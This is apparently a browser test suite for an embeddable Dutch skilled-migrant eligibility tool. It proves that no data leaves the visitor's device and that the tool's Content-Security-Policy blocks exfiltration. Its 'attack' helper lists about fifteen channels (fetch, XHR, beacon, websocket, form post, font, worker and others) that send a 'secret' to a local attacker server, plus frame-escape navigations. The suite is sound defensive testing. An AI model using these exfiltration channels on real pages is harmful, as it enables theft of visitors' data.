// Nothing leaves the visitor's device, in any form of embedding. And the control: an attacker whose script runs on the page gets nothing out under
// our policy, while the same attack without the policy arrives at the attacker's server.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { ELEMENT, FRAME, inside, OFFER, RESIZER, startHost, toolFrame, visit } from "./support/embedding.mjs";
import { DIST, startSite } from "./support/site.mjs";
import { visitor } from "./support/visitor.mjs";

let site;
let host;
let attacker;
before(async () => {
  site = await startSite();
  host = await startHost();
  attacker = await startHost();
  host.put("/frame", FRAME(site), { head: RESIZER(site) });
  host.put("/element", "<kennismigrant-check></kennismigrant-check>", { head: ELEMENT(site) });
});
after(async () => {
  await Promise.all([host.stop(), attacker.stop()]);
  await site.stop();
});

/** Each form: its address, and where its questions stand. */
const FORMS = {
  page: { address: () => `${site.base}/nl/`, form: async (page) => page },
  frame: { address: () => `${host.base}/frame`, form: toolFrame },
  element: { address: () => `${host.base}/element`, form: async (page) => inside(page.locator("kennismigrant-check")) },
  "one file from the web": { address: () => `${site.base}/kennismigrant-check.html`, form: async (page) => page },
  "one file from the disk": { address: () => pathToFileURL(path.join(DIST, "kennismigrant-check.html")).href, form: async (page) => page },
};

for (const [name, { address, form }] of Object.entries(FORMS))
  test(`${name}: no request, no cookie, no storage, no worker through a whole assessment with the network cut`, async () => {
    const page = await visit(site, address());
    const place = await form(page);
    await place.locator("#check").waitFor();
    await page.waitForLoadState("networkidle");
    const tried = [];
    page.on("request", (request) => tried.push(request.url()));
    page.on("websocket", (socket) => tried.push(socket.url()));
    const served = site.requests.length + host.log.length;
    await page.context().setOffline(true);
    const me = visitor(place);
    await me.offer({ ...OFFER, age: undefined, birth: "2001-05-06" });
    await me.submit();
    assert.equal(await me.outcome(), "met-provided");
    await me.tickGates();
    assert.equal(await me.outcome(), "met");
    await me.form.getByRole("button", { name: /Toon nog/ }).click();
    await me.result.locator("summary").evaluateAll((all) => all.forEach((one) => one.click()));
    await page.waitForTimeout(200);
    assert.deepEqual(tried, []);
    assert.equal(site.requests.length + host.log.length, served);
    assert.deepEqual(await page.context().cookies(), []);
    assert.equal(page.context().serviceWorkers().length, 0);
    assert.equal(page.workers().length, 0);
    for (const frame of page.frames()) assert.deepEqual(await frame.evaluate(kept), [0, 0, 0, ""], frame.url());
    assert.deepEqual(page.complaints, []);
    await page.context().close();
  });

/** What lies in the storage of a document; in a sandbox there is none to look in. */
async function kept() {
  if (window.origin === "null" && location.protocol !== "file:") return [0, 0, 0, ""];
  return [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, document.cookie];
}

/** Every way out that a script has, each with its name in the address. */
function attack(to) {
  const put = (name, attributes, place = document.head) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    place.append(element);
    return element;
  };
  const ways = {
    fetch: () => { fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => null); },
    xhr: () => { const request = new XMLHttpRequest(); request.open("POST", `${to}/xhr`); request.send("secret"); },
    beacon: () => navigator.sendBeacon(`${to}/beacon`, "secret"),
    image: () => { new Image().src = `${to}/image`; },
    websocket: () => new WebSocket(`${to.replace("http", "ws")}/websocket`),
    eventsource: () => new EventSource(`${to}/eventsource`),
    form: () => {
      put("iframe", { name: "out" }, document.body);
      put("form", { action: `${to}/form`, method: "post", target: "out" }, document.body).submit();
    },
    stylesheet: () => put("link", { rel: "stylesheet", href: `${to}/stylesheet` }),
    font: () => { new FontFace("x", `url(${to}/font)`).load().catch(() => null); },
    prefetch: () => put("link", { rel: "prefetch", href: `${to}/prefetch` }),
    frame: () => put("iframe", { src: `${to}/frame` }, document.body),
    media: () => put("video", { src: `${to}/media` }, document.body),
    object: () => put("object", { data: `${to}/object` }, document.body),
    script: () => put("script", { src: `${to}/script` }),
    worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts("${to}/worker")`]))),
  };
  for (const way of Object.values(ways)) {
    try { way(); } catch { /* Refused at once. */ }
  }
  return Object.keys(ways);
}

/** What arrived at the attacker's server, by name. */
async function arrivals(page, run) {
  attacker.log.length = 0;
  const ways = await run();
  await page.waitForTimeout(1500);
  return { ways, arrived: [...new Set(attacker.log.map((url) => url.split("/")[1]))].sort() };
}

const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n?/;

/** The pages whose policy is ours: by header and `<meta>`, by `<meta>` alone, and for the control by neither. */
const OURS = { page: "nl/index.html", frame: "embed/index.html", "one file": "kennismigrant-check.html" };

for (const [name, file] of Object.entries(OURS)) {
  test(`an attacker's script in the ${name} gets nothing out`, async () => {
    const page = await visit(site, `${site.base}/${file}`);
    await page.locator("#check").waitFor();
    const { arrived } = await arrivals(page, () => page.evaluate(attack, attacker.base));
    assert.deepEqual(arrived, []);
    await page.context().close();
  });

  test(`nor where the host sends no headers: the ${name} carries its policy itself`, async () => {
    const html = await readFile(path.join(DIST, file), "utf8");
    assert.match(html, POLICY);
    host.putRaw(`/meta/${file}`, html);
    const page = await visit(site, `${host.base}/meta/${file}`);
    const { arrived } = await arrivals(page, () => page.evaluate(attack, attacker.base));
    assert.deepEqual(arrived, []);
    await page.context().close();
  });

  test(`the control: without the policy every way out of the ${name} leaks`, async () => {
    const html = await readFile(path.join(DIST, file), "utf8");
    host.putRaw(`/none/${file}`, html.replace(POLICY, ""));
    const page = await visit(site, `${host.base}/none/${file}`);
    const { ways, arrived } = await arrivals(page, () => page.evaluate(attack, attacker.base));
    assert.deepEqual(arrived, [...ways].sort());
    await page.context().close();
  });
}

test("an attacker's script in the sandboxed frame cannot take the host's page, the frame or a new window elsewhere", async () => {
  const place = (name, sandbox, policy) => host.put(name, FRAME(site).replace('sandbox="allow-scripts"', sandbox), { head: RESIZER(site), ...(policy ? { "Content-Security-Policy": policy } : {}) });
  const leave = (to) => {
    for (const way of [() => { window.top.location = `${to}/top`; }, () => window.open(`${to}/window`), () => { window.location = `${to}/self`; }])
      try { way(); } catch { /* Refused at once. */ }
  };
  place("/guarded", 'sandbox="allow-scripts"', `frame-src ${site.base}`);
  const page = await visit(site, `${host.base}/guarded`);
  const frame = await toolFrame(page);
  const { arrived } = await arrivals(page, () => frame.evaluate(leave, attacker.base).catch(() => []));
  assert.deepEqual(arrived, []);
  assert.equal(page.url(), `${host.base}/guarded`);
  await page.context().close();

  // The control: without the sandbox and without the host's `frame-src` it leaves.
  place("/unguarded", "");
  const open = await visit(site, `${host.base}/unguarded`);
  const unguarded = await toolFrame(open);
  await unguarded.locator("body").click({ position: { x: 2, y: 2 } });
  const control = await arrivals(open, () => unguarded.evaluate((to) => { window.location = `${to}/self`; }, attacker.base).catch(() => []));
  assert.deepEqual(control.arrived, ["self"]);
  await open.context().close();
});

test("the frame in a sandbox has nothing to store in, and works", async () => {
  const page = await visit(site, `${host.base}/frame`);
  const frame = await toolFrame(page);
  const refused = await frame.evaluate(() => [() => localStorage, () => sessionStorage, () => document.cookie].map((look) => { try { look(); return "open"; } catch ({ name }) { return name; } }));
  assert.deepEqual(refused, ["SecurityError", "SecurityError", "SecurityError"]);
  await page.context().close();
});

test("the engine imports its own glue and nothing else: it has no way to the network, the clock or chance", async () => {
  const pkg = path.resolve(process.env.PKG ?? path.join(import.meta.dirname, "../../pkg"));
  const module = new WebAssembly.Module(await readFile(path.join(pkg, "kennismigrant_bg.wasm")));
  const imports = WebAssembly.Module.imports(module);
  assert.ok(imports.length > 0);
  assert.deepEqual([...new Set(imports.map(({ module: from }) => from))], ["./kennismigrant_bg.js"]);
  const names = imports.map(({ name }) => name.replace(/^__wbg_|_[0-9a-f]{16}$/g, ""));
  for (const name of names) assert.doesNotMatch(name, /fetch|xml|socket|beacon|crypto|random|now|date|window|document|storage|global|self/i);
});

test("the tool never opens a WebRTC connection", async () => {
  // No policy of ours can forbid WebRTC in every browser, so the tool is watched instead: the constructor is never called.
  const page = await visit(site, "about:blank");
  await page.addInitScript(() => {
    window.connections = 0;
    window.RTCPeerConnection = class { constructor() { window.connections += 1; } };
  });
  await page.goto(`${site.base}/nl/`);
  const me = visitor(page);
  await me.offer(OFFER);
  await me.submit();
  assert.equal(await page.evaluate(() => window.connections), 0);
  await page.context().close();
});
